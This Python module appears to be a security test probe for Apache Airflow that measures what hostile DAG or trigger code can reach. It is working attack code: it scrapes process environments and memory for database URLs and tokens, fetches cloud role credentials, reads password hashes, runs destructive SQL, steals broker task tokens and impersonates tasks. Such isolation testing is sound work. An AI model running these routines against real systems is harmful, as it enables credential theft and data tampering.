"""What code in a DAG can get at: run by a task, by a file that is parsed, and by a trigger of the case hostile.

Prints no secret: of what it finds it tells SHA-256 sums, which the case compares.
"""

import base64
import ctypes
import getpass
import hashlib
import json
import os
import re
import socket
import ssl
import urllib.error
import urllib.request

from airflow.triggers.base import BaseTrigger, TriggerEvent

URL = re.compile(rb"(?:postgresql|rediss)[+a-z0-9]*://[!-~]{8,300}")
NOW = "2026-01-01T00:00:00Z"
TOKEN = re.compile(rb"eyJ[\w-]{10,}\.eyJ[\w-]{10,}\.[\w-]{20,}")


def tell(answers: dict) -> str:
    """For a log, which has its own ways with quotes, and takes base64 of JSON for a token, which it masks."""
    return f"FOUND {json.dumps(answers).encode().hex()} END"


def attempt(function, *arguments) -> str:
    try:
        return str(function(*arguments))
    except Exception as fault:  # Airflow's timeout of a parse is no answer, and no Exception
        return f"{type(fault).__name__}: {(str(fault).strip().splitlines() or [''])[0]}"[:200]


def sums(values) -> list[str]:
    return sorted(hashlib.sha256(value.encode()).hexdigest() for value in set(values) if len(value) >= 16)


def words(text: str) -> set[str]:
    """Values of an environment, and passwords of addresses in it."""
    values = {part.partition("=")[2] for part in text.split("\0")} | {text}
    return values | set(re.findall(r"://[^:/@]*:([^@/]+)@", text))


def environments() -> tuple[set[str], int]:
    """Of all processes whose environment can be read; and how many are others'."""
    found, others = set(), 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                text = file.read().decode(errors="replace")
        except OSError:
            continue
        found |= words(text)
        others += int(pid) != os.getpid()
    return found, others


def memory(pid) -> list[bytes]:
    """What looks like an address or a token in a process's memory."""
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
        for line in maps:
            ends, rights = line.split()[:2]
            begin, end = (int(half, 16) for half in ends.split("-"))
            if rights.startswith("rw") and end - begin < 1 << 28:
                try:
                    mem.seek(begin)
                    part = mem.read(end - begin)
                except (OSError, ValueError, OverflowError):
                    continue
                found += URL.findall(part) + TOKEN.findall(part)
    return found


def write(path: str) -> str:
    with open(path, "w"):
        return "written"


def reach(host: str, port: int) -> str:
    with socket.create_connection((host, port), timeout=2):
        return "connected"


def credentials() -> str:
    path = os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]
    with urllib.request.urlopen("http://169.254.170.2" + path, timeout=5) as answer:
        return json.load(answer)["RoleArn"].rsplit("/", 1)[-1]


def database(url: str, statement: str) -> str:
    import psycopg2

    connection = psycopg2.connect(url, connect_timeout=3)
    connection.autocommit = True
    with connection.cursor() as cursor:
        cursor.execute(statement)
        return f"{cursor.rowcount} rows"


def orm() -> str:
    from airflow.models import Connection
    from airflow.utils.session import create_session

    with create_session() as session:
        return f"{session.query(Connection).count()} connections"


def execution(method: str, path: str, token: str, body=None) -> tuple[str, str]:
    """Returns the status, and the token that the answer gives instead."""
    import certifi

    request = urllib.request.Request(
        os.environ["AIRFLOW__CORE__EXECUTION_API_SERVER_URL"] + path, method=method, data=json.dumps(body).encode() if body else None,
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )  # fmt: skip
    try:
        with urllib.request.urlopen(request, timeout=10, context=ssl.create_default_context(cafile=certifi.where())) as answer:
            return str(answer.status), answer.headers.get("Refreshed-API-Token", "")
    except urllib.error.HTTPError as fault:
        return str(fault.code), ""


def end(task: str, token: str) -> str:
    return execution("PATCH", f"task-instances/{task}/state", token, {"state": "failed", "end_date": NOW})[0]


def read(variable: str, token: str) -> str:
    return execution("GET", f"variables/{variable}", token)[0]


def as_its_process(task: str, token: str) -> str:
    """3.3: a message's token starts its task, or again for who says to be the process that did; the answer has one for the rest."""
    from airflow.sdk.api.client import get_hostname

    for pid in filter(str.isdigit, os.listdir("/proc")):
        body = {"state": "running", "hostname": get_hostname(), "unixname": getpass.getuser(), "pid": int(pid), "start_date": NOW}
        if theirs := execution("PATCH", f"task-instances/{task}/run", token, body)[1]:
            return theirs
    return ""


def tried(function, what: str, task: str, token: str) -> tuple[str, str]:
    """Returns the answer, and the token that it is due to."""
    status = function(what, token)
    if status == "403" and (theirs := as_its_process(task, token)):
        return f"403, and {function(what, theirs)} as its process", theirs
    return status, token


def tokens(texts) -> dict[str, str]:
    """Task instance -> token for the execution API."""
    found = {}
    for text in texts:
        text = text.decode() if isinstance(text, bytes) else text
        payload = text.split(".")[1]
        try:
            found[json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))["sub"]] = text
        except (ValueError, KeyError):
            continue
    return found


def broker(conf: dict) -> dict:
    """Every message that a worker holds carries its task's token."""
    import redis
    import certifi

    client = redis.from_url(os.environ["AIRFLOW__CELERY__BROKER_URL"], ssl_ca_certs=certifi.where(), socket_timeout=5)
    held = b" ".join(client.hvals("unacked"))
    bodies = [base64.b64decode(body) for body in re.findall(rb'"body": "([\w+/=]+)"', held)]
    theirs = tokens(TOKEN.findall(b" ".join(bodies)))
    return {
        "broker": f"{len(client.keys('celery-task-meta-*')) > 0} results, {len(theirs) > 0} tokens of running tasks",
        "another's token": attempt(lambda: tried(end, conf["other"], conf["other"], theirs.get(conf["other"], ""))[0]),
    }


def look(conf: dict, place: str, own: str = "") -> dict:
    """Everything that is tried, by name."""
    found, others = environments()
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: 3.3 takes it away, and a process may take it back
    mine = memory("self")
    parents = attempt(lambda: len(memory(os.getppid())))
    address = next((value for value in sorted(found) if value.startswith("postgresql+psycopg2://") and "@" in value), "")
    config = attempt(lambda: open("/opt/airflow/home/airflow.cfg").read())
    found |= words(config.replace(" = ", "=").replace("\n", "\0"))
    for text in mine:
        found |= words(text.decode(errors="replace").strip("\"'}"))
    login = address.replace("+psycopg2", "").split("?")[0] + "?sslmode=require" if address else f"host={conf['database']} user=airflow dbname=airflow sslmode=require"
    answers = {
        "secrets": sums(found), "other environments": others > 0, "parent's memory": parents if not parents.isdigit() else "read",
        "orm": attempt(orm), "database": attempt(database, login, "select 1"),
        "passwords": attempt(database, login, "select password from ab_user"), "connections": attempt(database, login, "select * from connection"),
        "change connections": attempt(database, login, "update connection set password = 'x'"), "schema": attempt(database, login, "create table hostile (a int)"),
        "audit log": attempt(database, login, "delete from log"),
        "dags": attempt(write, "/opt/airflow/sync/dags/hostile_written.py"), "root": attempt(write, "/opt/airflow/bin/hostile"),
        "airflow.cfg": "read" if "[core]" in config else config,
        "guard": attempt(reach, "127.0.0.1", 9102), "internet": attempt(reach, "192.0.2.1", 443), "credentials": attempt(credentials),
    }  # fmt: skip
    if place == "worker":
        token = tokens(text for text in mine if text.startswith(b"eyJ")).get(own, "")
        answers["own token"], token = tried(read, conf["variable"], own, token)
        answers["another's task, own token"] = attempt(end, conf["other"], token)
        answers |= broker(conf)
    return answers


class Hostile(BaseTrigger):
    def __init__(self, conf: dict):
        super().__init__()
        self.conf = conf

    def serialize(self):
        return "hostile_probe.Hostile", {"conf": self.conf}

    async def run(self):
        yield TriggerEvent(look(self.conf, "triggerer"))
